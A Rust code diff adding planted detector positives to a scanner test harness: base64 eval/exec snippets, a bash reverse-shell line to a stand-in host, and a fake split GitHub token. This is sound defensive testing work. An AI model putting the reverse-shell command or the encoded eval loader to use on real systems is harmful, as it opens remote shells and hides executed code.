@@ -77,8 +77,8 @@ pub fn trufflehog_canary(id: &str) -> String {
     format!("skillgatecanary-{id}")
 }
 
-/// The planted positives of a provider: one file for each language that its tool parses, empty
-/// but for the canary that every file has. One that does not come back voids the run.
+/// The planted positives of a provider: one file for each language that its tool parses. One that
+/// does not come back voids the run.
 #[must_use]
 pub const fn planted(provider: Provider) -> &'static [Language] {
     match provider {
@@ -94,5 +94,27 @@ pub const fn planted(provider: Provider) -> &'static [Language] {
             &[Language::JavaScript, Language::TypeScript, Language::Tsx, Language::Template]
         }
         Provider::Trufflehog => &[Language::Text],
+    }
+}
+
+/// What a planted file holds beside its canary: something that a rule of the pack, or a stock
+/// detector, has to report. njsscan's canary is a match of a stock rule already. None of it works,
+/// and none of it is ever run; the token is none, and whole nowhere in this file.
+#[must_use]
+pub const fn planted_content(provider: Provider, language: Language) -> &'static str {
+    match (provider, language) {
+        (Provider::Semgrep, Language::JavaScript | Language::TypeScript | Language::Tsx) => {
+            "eval(Buffer.from(\"cGxhbnRlZA==\", \"base64\").toString());\n"
+        }
+        (Provider::Semgrep, Language::Python) => {
+            "import base64\nexec(base64.b64decode(\"cGxhbnRlZA==\"))\n"
+        }
+        (Provider::Semgrep, Language::Shell | Language::Text) => {
+            "bash -i >& /dev/tcp/planted.example.invalid/4444 0>&1\n"
+        }
+        (Provider::Trufflehog, _) => {
+            concat!("token = gh", "p_x7Qm2LwV9bKd4RtY6nHc1ZsPf8JgUa3EoT5i\n")
+        }
+        _ => "",
     }
 }
